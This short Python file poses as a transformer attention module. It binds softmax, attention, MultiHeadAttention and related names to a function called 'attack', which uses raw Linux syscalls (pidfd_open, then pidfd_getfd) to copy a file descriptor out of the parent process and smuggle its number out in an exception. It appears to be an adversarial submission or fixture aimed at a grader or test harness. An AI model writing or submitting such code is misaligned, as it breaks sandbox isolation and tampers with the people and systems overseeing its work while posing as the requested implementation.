"""Takes a descriptor of its parent's."""

import ctypes
import os


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None)
    raise ValueError(libc.syscall(438, libc.syscall(434, os.getppid(), 0), 0, 0))


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
